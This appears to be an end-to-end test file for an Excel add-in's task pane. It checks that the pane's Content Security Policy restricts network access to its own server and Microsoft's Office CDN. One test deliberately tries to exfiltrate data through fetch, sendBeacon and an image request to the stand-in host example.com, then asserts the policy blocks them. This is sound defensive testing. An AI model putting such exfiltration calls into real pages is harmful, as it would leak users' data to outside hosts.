// The production build in a browser, as Excel on the web would load it: Office.js comes from Microsoft's address (answered here
// from the npm package of the same code), and the page's policy is at work.
import { existsSync, readFileSync } from "node:fs";
import { dirname, join } from "node:path";
import type { Browser, Page } from "playwright-core";
import { type StaticServer, startStaticServer } from "../../build/serve/static-server";
import { productionBuild } from "../build/built";
import { launchBrowser } from "./browser";
import { takeForeign, watchForeign } from "./foreign";

const CDN = "https://appsforoffice.microsoft.com/lib/1/hosted/";
const OFFICE_JS = join(dirname(require.resolve("@microsoft/office-js/package.json")), "dist");

let server: StaticServer;
let browser: Browser;

beforeAll(async () => {
  server = await startStaticServer({ folder: productionBuild(), port: 0 });
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser.close();
  await server.close();
});

/** Opens a page of the build; notes every address asked for and everything that the page's policy refused. */
async function open(path: string): Promise<{ page: Page; asked: string[]; refused: string[]; failed: string[] }> {
  const context = await browser.newContext();
  await watchForeign(context, [server.url, CDN]);
  const page = await context.newPage();
  const asked: string[] = [];
  const refused: string[] = [];
  const failed: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("pageerror", (error) => failed.push(error.message));
  page.on("console", (message) => {
    if (/Content Security Policy/.test(message.text())) refused.push(message.text());
  });
  await page.route(`${CDN}**`, (route) => {
    const file = join(OFFICE_JS, new URL(route.request().url()).pathname.replace("/lib/1/hosted/", ""));
    if (!existsSync(file)) return route.fulfill({ status: 404, body: "" });
    return route.fulfill({ body: readFileSync(file), contentType: "text/javascript" });
  });
  await page.goto(`${server.url}${path}`, { waitUntil: "networkidle" });
  return { page, asked, refused, failed };
}

/** What Excel on the web adds to the pane's address: which host it is, and over which conversation they speak. */
const EXCEL_ON_THE_WEB =
  "?_host_Info=Excel$Web$16.00$en-US$telemetry$isDialog$$0#&_xdm_Info=pane|https://excel.officeapps.live.com|pane";

describe("the published pane", () => {
  it("loads under its own policy, in Excel on the web, and asks nobody but its server and Office's CDN", async () => {
    const { page, asked, refused, failed } = await open(`taskpane.html${EXCEL_ON_THE_WEB}`);
    expect(refused).toEqual([]);
    expect(failed).toEqual([]);
    expect(asked.filter((address) => !address.startsWith(server.url) && !address.startsWith(CDN))).toEqual([]);
    expect(asked).toEqual(expect.arrayContaining([`${CDN}office.js`, `${CDN}excel-web-16.00.js`]));
    await page.context().close();
  });

  it("cannot send anything anywhere, whatever runs in it", async () => {
    const { page, refused } = await open("taskpane.html");
    const sent = await page.evaluate(async () => {
      const tries = [
        () => fetch("https://example.com/claims", { method: "POST", body: "claims" }).then(() => "fetch"),
        async () => (navigator.sendBeacon("https://example.com/claims", "claims") ? "beacon" : ""),
        () =>
          new Promise<string>((done) => {
            const picture = new Image();
            picture.onload = () => done("picture");
            picture.onerror = () => done("");
            picture.src = "https://example.com/claims.png";
          }),
      ];
      return Promise.all(tries.map((attempt) => attempt().catch(() => "")));
    });
    expect(sent.filter((way) => way === "fetch" || way === "picture")).toEqual([]);
    expect(refused.length).toBeGreaterThanOrEqual(3);
    // A browser may tell of a request before it refuses it: nobody but this test has tried.
    expect(takeForeign().filter((told) => !told.includes("https://example.com/claims"))).toEqual([]);
    await page.context().close();
  });

  it.each(["help/index.html", "help/auth.html"])("serves %s, which asks for nothing", async (path) => {
    const { page, asked, refused } = await open(path);
    expect(asked).toEqual([`${server.url}${path}`]);
    expect(refused).toEqual([]);
    expect(await page.locator("h1").textContent()).toMatch(/Payer Policy Matrix|PAYER\.AUTH/);
    await page.context().close();
  });
});
